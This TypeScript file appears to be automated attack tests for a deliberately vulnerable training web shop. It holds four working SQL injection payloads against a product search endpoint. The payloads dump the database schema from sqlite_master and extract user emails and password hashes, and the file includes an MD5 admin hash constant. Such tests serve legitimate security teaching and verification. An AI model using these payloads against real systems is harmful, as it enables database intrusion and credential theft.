import type { Attack, Tools } from '#lab'

/** Searches for a text and expects these words in the results. */
async function search({ http, expect }: Tools, term: string, ...words: string[]): Promise<void> {
  const answer = await http.get(`/rest/products/search?q=${encodeURIComponent(term)}`)
  expect(answer.status === 200, `the search answered with ${answer.status}`)
  for (const word of words) expect(answer.text.includes(word), `there is no ${word} in it`)
}

/** MD5 of the administrator's password. */
const ADMIN_HASH = '0192023a7bbd73250516f069df18b500'

export const attacks: Attack[] = [
  {
    challenge: 'dbSchemaChallenge',
    name: 'ask for the recipe of every table',
    run: (tools) =>
      search(
        tools,
        "')) union select sql,'2','3','4','5','6','7','8','9' from sqlite_master--",
        'CREATE TABLE sqlite_sequence(name,seq)',
      ),
  },
  {
    challenge: 'dbSchemaChallenge',
    name: 'the UNION in capital letters, into another column',
    run: (tools) =>
      search(
        tools,
        "x')) UNION SELECT 1,2,3,4,sql,6,7,8,9 FROM sqlite_master /*",
        'CREATE TABLE sqlite_sequence',
      ),
  },
  {
    challenge: 'unionSqlInjectionChallenge',
    name: 'ask for all customers instead of juices',
    run: ({ settings, ...tools }) =>
      search(
        { settings, ...tools },
        "')) union select id,'2','3',email,password,'6','7','8','9' from users--",
        `admin@${settings.domain}`,
        ADMIN_HASH,
      ),
  },
  {
    challenge: 'unionSqlInjectionChallenge',
    name: 'the UNION in capital letters, joined into one column',
    run: (tools) =>
      search(
        tools,
        "x')) UNION SELECT 1,email||':'||password,3,4,5,6,7,8,9 FROM Users WHERE deletedAt IS NULL /*",
        ADMIN_HASH,
      ),
  },
]
